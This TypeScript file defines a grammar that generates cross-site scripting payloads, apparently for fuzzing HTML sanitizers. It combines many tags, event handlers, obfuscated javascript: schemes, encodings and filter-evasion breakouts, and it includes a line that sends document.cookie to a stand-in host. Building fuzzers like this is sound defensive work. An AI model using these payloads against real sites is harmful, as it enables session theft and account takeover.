import { texts, type Grammar } from './random.ts'

/** Cross-site scripting by family: `attack` is where a text begins; `~` is a blank that may be written otherwise. */
export const markupGrammar: Grammar = {
  sp: [' '],
  none: [''],
  nul: ['\0'],
  high: ['\xbc'],
  attack: texts(`
    {before}<{tag}{gap}{handler}{end} ¦ {before}<{tag}{gap}{attribute}{gap}{handler}{end} ¦ {before}<{tag}{gap}{handler}{gap}{attribute}{end} ¦
    {before}<{tag}{gap}{handler}{end} ¦ {before}<script{attrs}>{js}</script> ¦ {before}<script{attrs}>{js} ¦ {before}<script{gap}src={url}></script> ¦
    {before}<{linker}{end} ¦ {before}<{linker}{end} ¦ {before}<{loader}{end} ¦ {before}<{loader}{end} ¦ {breakout}{handler} ¦ {breakout}{handler}{gap}x={quoteChar} ¦
    {breakout}style={style} ¦ {before}<{tag}{gap}style={style}{end} ¦ {before}<style{attrs}>{css}</style> ¦ {before}<{odd} ¦ {odd2} ¦
    {before}<svg>{svg} ¦ {before}<math>{math} ¦ <!--{word}-->{attackTag} ¦ --><{tag}{gap}{handler}> ¦ </{rawText}><{tag}{gap}{handler}> ¦
    {before}<a{gap}href={scheme}{end}{word}</a> ¦ {handler} ¦ {breakout}href={scheme} ¦ {before}<{tag}{gap}{namespaced}{end}`),
  attackTag: texts(`<script>{js}</script> ¦ <{tag}{gap}{handler}>`),
  rawText: texts(
    `title ¦ textarea ¦ style ¦ script ¦ noscript ¦ xmp ¦ iframe ¦ div ¦ select ¦ option ¦ a ¦ p`,
  ),
  before: texts(`
    {none} ¦ {none} ¦ {none} ¦ "> ¦ '> ¦ > ¦ {sp} ¦ "/> ¦ {word} ¦ {word}"> ¦ </title> ¦ </textarea> ¦ --> ¦ ;!--" ¦ < ¦ << ¦ \\"> ¦ 'x> ¦ ]]> ¦ <b>{word}</b> ¦ <!-- ¦
    <!--{word}--> ¦ <p> ¦ <div ¦ <!> ¦ <x ¦ \`> ¦ '"> ¦ {high}> ¦ {word}< ¦ <a> ¦ </ ¦ <br/>`),
  breakout: texts(`
    "~ ¦ '~ ¦ \`~ ¦ {word}~ ¦ {word}"~ ¦ {word}'~ ¦ "/ ¦ " autofocus~ ¦ '/ ¦ x"\t ¦ "" ¦ "\\n ¦ '' ¦ {word}"{word}=~ ¦ 1\` ~`),
  tag: texts(`
    img ¦ svg ¦ body ¦ video ¦ audio ¦ input ¦ iframe ¦ a ¦ div ¦ details ¦ marquee ¦ select ¦ textarea ¦ button ¦ object ¦ embed ¦ form ¦ keygen ¦ isindex ¦ image ¦ img ¦ IMG ¦
    math ¦ x ¦ xss ¦ b ¦ p ¦ table ¦ td ¦ frameset ¦ bgsound ¦ layer ¦ link ¦ meta ¦ style ¦ base ¦ applet ¦ svg/onload ¦ custom-tag ¦ h1 ¦ source ¦ track ¦ canvas ¦ font ¦ html ¦
    head ¦ noscript ¦ plaintext ¦ listing ¦ xmp ¦ menuitem ¦ dialog ¦ summary ¦ label ¦ option ¦ optgroup ¦ blink ¦ bdo ¦ span ¦ animate ¦ set ¦ x:script ¦ ns0:a ¦ a:b ¦ {odd3}`),
  odd3: texts(`im{nul}g ¦ i{nul}frame ¦ s{nul}vg ¦ scr{nul}ipt ¦ img\t ¦ svg\n ¦ Svg ¦ sVG`),
  gap: texts(
    `{sp} ¦ {sp} ¦ {sp} ¦ {sp} ¦ / ¦ \t ¦ \n ¦ {sp}{sp} ¦ // ¦ /~/ ¦ \f ¦ \r\n ¦ \v ¦ /x/ ¦ {nul} ¦ ~x~ ¦ ~" ¦ ~' ¦ ~=~ ¦ /\n`,
  ),
  event: texts(`
    onload ¦ onerror ¦ onclick ¦ onmouseover ¦ onfocus ¦ onblur ¦ ontoggle ¦ onstart ¦ onbegin ¦ onend ¦ onscroll ¦ oninput ¦ onchange ¦ onkeypress ¦ onpointerenter ¦ onanimationstart ¦
    ontransitionend ¦ onwheel ¦ onplay ¦ oncanplay ¦ onloadstart ¦ onbeforeunload ¦ onhashchange ¦ onpageshow ¦ onpopstate ¦ onresize ¦ onsubmit ¦ onreset ¦ onselect ¦ oncut ¦ oncopy ¦ onpaste ¦
    ondrag ¦ ondrop ¦ onmessage ¦ onoffline ¦ ononline ¦ onstorage ¦ onunload ¦ onafterprint ¦ onbeforescriptexecute ¦ onpropertychange ¦ onreadystatechange ¦ onfilterchange ¦ onactivate ¦ onbounce ¦
    onfinish ¦ onlosecapture ¦ oncontextmenu ¦ ondblclick ¦ onmouseenter ¦ onmousemove ¦ ontouchstart ¦ onauxclick ¦ onfocusin ¦ oninvalid ¦ onsearch ¦ onshow ¦ onrepeat ¦ OnLoad ¦ ONERROR ¦ onErRor ¦
    ondataavailable ¦ onrowexit ¦ ontimeerror ¦ onmediacomplete ¦ onzoom ¦ onabort ¦ onbeforecopy ¦ oncellchange ¦ onundo ¦ onredo ¦ onseek ¦ onreverse ¦ onresume ¦ ontrackchange ¦ onurlflip`),
  handler: texts(
    `{event}={value} ¦ {event}={value} ¦ {event}={value} ¦ {event}~=~{value} ¦ {event}\t=\n{value} ¦ {event}{nul}={value} ¦ {event}\v={value} ¦ {event}\f=~{value} ¦ {event}={sp}{value}`,
  ),
  quoteChar: texts(`" ¦ ' ¦ \` ¦ {none}`),
  value: texts(
    `"{js}" ¦ '{js}' ¦ {jsbare} ¦ {jsbare} ¦ \`{jsbare}\` ¦ "{js} ¦ '{js} ¦ javascript:{jsbare} ¦ "javascript:{js}" ¦ {entities}`,
  ),
  jsbare: texts(
    `alert(1) ¦ alert\`1\` ¦ prompt(1) ¦ confirm(document.cookie) ¦ eval(name) ¦ alert&lpar;1&rpar; ¦ top['al'+'ert'](1) ¦ window.location='//x' ¦ \\u0061lert(1) ¦ a=1,alert(a) ¦ this.x=1 ¦ [1].find(alert) ¦ alert&#40;1&#41; ¦ location=name ¦ {js1}`,
  ),
  js1: texts(
    `import('//x') ¦ throw/a/,1 ¦ fetch('/x') ¦ setTimeout('a',1) ¦ new(Function)('a')() ¦ document.write(1) ¦ $.get('x')`,
  ),
  js: texts(
    `alert(1) ¦ alert('XSS') ¦ alert("XSS") ¦ alert(document.cookie) ¦ {jsbare} ¦ var a=1;alert(a); ¦ /*{word}*/alert(1)// ¦ a='b';alert(1) ¦ {none} ¦ x ¦ document.location='http://x/?'+document.cookie ¦ String.fromCharCode(88,83,83) ¦ if(1<2)alert(1)`,
  ),
  entities: texts(
    `&#97;&#108;&#101;&#114;&#116;(1) ¦ "&#x61;&#x6c;ert(1)" ¦ '&#0000097lert(1)' ¦ &#106;avascript:alert(1)`,
  ),
  attribute: texts(
    `src=x ¦ src="x" ¦ href="#" ¦ id=x ¦ class="a b" ¦ autofocus ¦ contenteditable ¦ x ¦ x="y" ¦ x='>' ¦ x=">" ¦ tabindex=1 ¦ open ¦ width=1 ¦ alt=\`x\` ¦ "" ¦ ="" ¦ src= ¦ src=\`x\` ¦ title="a=b" ¦ 'x' ¦ / ¦ a="b"c ¦ accesskey=x ¦ name=a id=b`,
  ),
  attrs: texts(
    `{none} ¦ {none} ¦ {none} ¦ {sp} ¦ /x ¦ ~src=//x ¦ ~type=text/javascript ¦ ~x=">" ¦ \t ¦ ~/ ¦ ~{word} ¦ ~src="data:,alert(1)" ¦ /~/ ¦ ~xmlns="x" ¦ \n ¦ ~language=vbs ¦ ~defer ¦ {nul}`,
  ),
  end: texts(`> ¦ > ¦ > ¦ /> ¦ {none} ¦ {sp} ¦ ~> ¦ >{word} ¦ // ¦ ~x ¦ >< ¦ <b ¦ ;> ¦ \\> ¦ ><!--`),
  url: texts(`//x.y ¦ http://x.y/a.js ¦ "//x.y" ¦ data:,alert(1) ¦ {scheme} ¦ '/x' ¦ \\\\x.y ¦ x`),
  scheme: texts(`
    javascript:{jsbare} ¦ "javascript:{js}" ¦ 'javascript:{js}' ¦ JaVaScRiPt:{jsbare} ¦ "jav\tascript:{js}" ¦ "jav&#x09;ascript:{js}" ¦ "jav&Tab;ascript&colon;{js}" ¦ &#106;&#97;vascript:{jsbare} ¦
    "~javascript:{js}" ¦ "\x01javascript:{js}" ¦ "&#14;~javascript:{js}" ¦ vbscript:msgbox(1) ¦ "vbscript:msgbox(1)" ¦ data:text/html,<script>{js}</script> ¦ "data:text/html;base64,PHNjcmlwdD4=" ¦ \`javascript:{jsbare}\` ¦
    "java\nscript:{js}" ¦ "java\r\nscript:{js}" ¦ "javascript&colon;{js}" ¦ "javascript&#58;{js}" ¦ "javascript&#x3A;{js}" ¦ &#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{jsbare} ¦ &#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{jsbare} ¦
    "javascript://%0a{js}" ¦ data:image/svg+xml,x ¦ "data:application/xhtml+xml,x" ¦ livescript:{jsbare} ¦ mocha:x ¦ view-source:x ¦ "&#x01;javascript:{js}" ¦ javascript&NewLine;:{jsbare} ¦ "\\njavascript:{js}" ¦ jscript:x ¦ feed:javascript:{jsbare} ¦ "DATA:text/html,x" ¦ data:,x ¦ "java{nul}script:{js}"`),
  linker: texts(`
    a~href={scheme} ¦ img~src={scheme} ¦ iframe~src={scheme} ¦ form~action={scheme} ¦ input~type=image~src={scheme} ¦ button~formaction={scheme} ¦ body~background={scheme} ¦ table~background={scheme} ¦ td~background={scheme} ¦
    img~dynsrc={scheme} ¦ img~lowsrc={scheme} ¦ bgsound~src={scheme} ¦ link~rel=stylesheet~href={scheme} ¦ area~href={scheme} ¦ object~data={scheme} ¦ embed~src={scheme} ¦ video~poster={scheme} ¦ video~src={scheme} ¦
    isindex~action={scheme} ¦ frame~src={scheme} ¦ base~href={scheme}// ¦ applet~code={scheme} ¦ math~href={scheme} ¦ a~xlink:href={scheme} ¦ blockquote~cite={scheme} ¦ q~cite={scheme} ¦ layer~src={scheme} ¦ image~src={scheme} ¦ source~srcset={scheme} ¦ form~id=x><button~form=x~formaction={scheme} ¦ input~src={scheme} ¦ div~href={scheme} ¦ a/href={scheme} ¦ a\nhref={scheme} ¦ x~by={scheme} ¦ x~to={scheme} ¦ x~from={scheme} ¦ x~values={scheme}`),
  loader: texts(`
    iframe ¦ iframe~src=//x ¦ iframe~srcdoc="<x>" ¦ object~data=x ¦ embed~src=x ¦ embed~code=x ¦ base~href=//x ¦ link~rel=import~href=x ¦ link~rel=stylesheet~href=x ¦ meta~http-equiv=refresh~content="0;url=x" ¦ meta~charset=x ¦ applet~code=x ¦ frameset><frame~src=x ¦
    frame~src=x ¦ layer~src=x ¦ bgsound~src=x ¦ script~src=x ¦ style ¦ svg ¦ xml~id=x ¦ import~namespace=x ¦ comment ¦ listener ¦ handler ¦ vmlframe~xmlns=x~src=x ¦ ilayer ¦ set~attributeName=onmouseover ¦ div~datasrc=#x~dataformatas=html ¦ div~datafld=x ¦ x~folder=x ¦ noscript ¦ xss ¦ isindex ¦ form~action=x><button~formaction=x ¦ animate~attributeName=href ¦ x~xmlns:xlink=x ¦ a~xlink:href=x ¦ html~xmlns:x ¦ x~xmlns="http://www.w3.org/2000/svg" ¦ event-source~src=x ¦ param~name=x ¦ portal~src=x ¦ template ¦ foreignObject ¦ scriptlet ¦ xml:namespace ¦ script:x ¦ div~x=y ¦ xsl:value-of`),
  namespaced: texts(
    `xlink:href={scheme} ¦ xmlns={url} ¦ xmlns:xlink="x" ¦ xml:base={scheme} ¦ fscommand=x ¦ seeksegmenttime=x ¦ datasrc=x ¦ dataformatas=x ¦ formaction=x ¦ srcdoc=x ¦ srcdoc="<b>" ¦ action={scheme} ¦ filter="x" ¦ attributename=href ¦ attributeName="onclick" ¦ folder={scheme} ¦ handler=x ¦ target="x" ¦ ev:event="x"`,
  ),
  style: texts(
    `"{decl}" ¦ '{decl}' ¦ "x:expression({js})" ¦ xss:expression(alert(1)) ¦ "width:exp/**/ression(alert(1))" ¦ "behavior:url(x)" ¦ "-moz-binding:url(//x)" ¦ "background:url(javascript:{jsbare})" ¦ "background-image:\\75\\72\\6C(x)" ¦ position:fixed ¦ x ¦ "list-style:url('javascript:x')" ¦ "animation-name:x"`,
  ),
  decl: texts(
    `color:red ¦ width:1px;height:1px ¦ x:expr\\65ssion(alert(1)) ¦ @import 'x' ¦ background:url(x) ¦ color:red;x:y ¦ font-family:'x ¦ anything:expression(x)`,
  ),
  css: texts(
    `@import'x'; ¦ *{x:expression({js})} ¦ body{background:url("javascript:{js}")} ¦ {none} ¦ li{list-style-image:url(x)} ¦ <script>{js}</script> ¦ x`,
  ),
  svg: texts(
    `<script>{js}</script> ¦ <a~xlink:href={scheme}><text>x ¦ <animate~onbegin={jsbare}> ¦ <use~xlink:href=data:x> ¦ <set~attributeName=href~to={scheme}> ¦ <image~href=x~onerror={jsbare}> ¦ <style>{css} ¦ <foreignObject><x ¦ <animate~xlink:href=#x~attributeName=href~values={scheme}> ¦ <discard~onbegin={jsbare}>`,
  ),
  math: texts(
    `<a~xlink:href={scheme}>x ¦ <maction~actiontype="statusline#x"~xlink:href={scheme}>x ¦ <mtext><script>{js} ¦ <x~href={scheme}>`,
  ),
  odd: texts(`
    !DOCTYPE~html ¦ !DOCTYPE~x~[<!ENTITY~y~"z">]> ¦ !ENTITY~x~SYSTEM~"y"> ¦ ?xml~version="1.0"?> ¦ ?xml-stylesheet~href="javascript:x"?> ¦ ?import~namespace=x> ¦ !--[if~IE]>{word}<![endif]--> ¦ ![CDATA[<x>]]> ¦ !--#exec~cmd="x"--> ¦ !--\`<img~src=x> ¦ ?xml ¦ !attlist~x ¦ !element~x ¦ !-- ¦ !--x--> ¦ ?php~x?> ¦ %~x ¦ !x ¦ ?x ¦
    /script ¦ /x~{handler}> ¦ SCRIPT/XSS~SRC=x ¦ script\\x20type=x>{js} ¦ ///style///><x ¦ <script>{js}//< ¦ script~<b>{js} ¦ %00script>{js}</script> ¦ img~"""><script>{js}</script>"> ¦ scr<script>ipt>{js} ¦ sc{nul}ript>{js} ¦ !--><img~src=x~{handler}> ¦ !--{word}--!><img~{handler}> ¦ x~'="{word}"><img~{handler}> ¦ ![if~gte~IE~4]><script>{js}</script><![endif]> ¦ !--%20x--><b> ¦ xml:x~{handler}> ¦ a~b=\`x\`~{handler}`),
  odd2: texts(`
    \`><script>{js}</script> ¦ {{constructor.constructor('{js}')()}} ¦ javascript:{jsbare} ¦ data:text/html,<script>{js}</script> ¦ {word}"><script>{js}</script> ¦ '';!--"<XSS>=&{()} ¦ ;alert(1);// ¦ +ADw-script+AD4- ¦ &#60;script&#62; ¦ {high}script>{js} ¦ \\";{js};// ¦ "{event}="{js}" ¦ " {event}='{js}'~x="`),
  word: texts(`x ¦ abc ¦ click me ¦ 1 ¦ test ¦ X`),
}

/** What a blank of the grammar may be written as. */
export const markupBlanks = [' ', ' ', ' ', ' ', '\t', '\n', '/', '  ', '\f', '\r\n'] as const
